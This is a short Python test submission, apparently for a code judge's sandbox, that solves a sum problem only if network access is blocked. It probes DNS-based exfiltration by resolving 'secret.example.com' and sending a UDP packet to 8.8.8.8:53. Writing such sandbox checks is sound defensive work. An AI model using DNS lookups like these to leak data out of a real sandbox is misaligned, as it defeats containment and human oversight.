# problem: sum
# want: accepted
# why: a name that is resolved carries data out

import socket

escaped = []
for name in ("example.com", "secret.example.com"):
    try:
        escaped.append(socket.getaddrinfo(name, 80))
    except OSError:
        pass
try:
    socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b"x", ("8.8.8.8", 53))
    escaped.append("datagram")
except OSError:
    pass

a, b = map(int, input().split())
print("ESCAPED", *escaped) if escaped else print(a + b)
